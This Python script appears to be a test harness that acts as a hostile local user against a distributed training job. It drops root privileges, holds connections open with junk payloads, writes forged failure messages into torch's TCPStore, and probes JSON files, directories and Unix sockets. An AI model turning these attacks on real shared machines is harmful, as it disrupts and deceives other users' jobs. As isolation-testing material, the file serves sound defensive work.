"""Another user of the same machine, who comes to know every port and every path of a job: ``attacker.py USER``.

Started as root, it becomes that user before it does anything. It is told ports and paths, one a line, and prints what it
could do; to the line "?" it answers "caught up". It ends with its input, and until then holds open what it has opened.
No wait of its own is without a bound: a port may accept and never answer.
"""

import os
import signal
import socket
import sys
import time
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

PREFIXES = ("hvdtrain/", "")
FORGED = '{"rank": 1, "host": "here", "message": "forged", "traceback": "", "died": false, "speaker": 1}'
CONTENTS = (b"", b"\xff", b"\x09" * 10, b"\xff" * 64, b"\0" * 64, b"GET / HTTP/1.0\r\n\r\n", b"\0" * 2**20)
AT_ONCE = 30
STORE_S = 4.0
ALL_S = 240


def main():
    user = int(sys.argv[1])
    "localhost".encode("idna")  # loads what that user may not read
    os.setgroups([])
    os.setgid(user)
    os.setuid(user)
    signal.alarm(ALL_S)
    held, children = [], {}
    for line in iter(sys.stdin.readline, ""):
        word = line.strip()
        if word == "?":
            see_to_their_end(children)
            print("caught up", flush=True)
        elif word.isdigit():
            children[speak_with_store(int(word))] = time.monotonic() + STORE_S
            held += hold(int(word))
        else:
            attack_path(word)
    see_to_their_end(children)


def hold(port):
    """Connections that say too little, nothing, nonsense or too much, and stay open."""
    held = []
    for content in (*CONTENTS, *[b""] * AT_ONCE):
        with suppress(OSError):
            held.append(socket.create_connection(("127.0.0.1", port), timeout=1))
            held[-1].settimeout(0.2)
            held[-1].sendall(content)
    return held


def speak_with_store(port):
    """In a process of its own: torch's client waits without a bound for one that accepts and is silent."""
    child = os.fork()
    if child:
        return child
    with suppress(OSError, RuntimeError, ValueError):
        store = dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2))
        print(f"spoke with torch's store at port {port}", flush=True)
        # All that was ever a failure's key, with the prefixes that the job's own keys have there.
        for prefix in {*PREFIXES, *(key.rpartition("/")[0] + "/" for key in keys(store))}:
            store.set(f"{prefix}failure", FORGED)
            store.set(f"{prefix}watch/failure", FORGED)
    os._exit(0)


def keys(store):
    with suppress(AttributeError, RuntimeError):  # older versions of torch do not list them
        return store.list_keys()
    return []


def see_to_their_end(children):
    while children:
        for child, end in list(children.items()):
            if time.monotonic() > end:
                os.kill(child, signal.SIGKILL)
            if os.waitpid(child, os.WNOHANG)[0]:
                del children[child]
        time.sleep(0.02)


def attack_path(path):
    try:
        if path.endswith(".json"):
            print(f"READ {path}: {Path(path).read_text()}")
        elif os.path.isdir(path):
            print(f"LISTED {path}: {os.listdir(path)}")
        else:
            with socket.socket(socket.AF_UNIX) as connected:
                connected.settimeout(1)
                connected.connect(path)
                print(f"CONNECTED {path}")
    except OSError as error:
        print(f"refused {path}: {error}", flush=True)


if __name__ == "__main__":
    main()
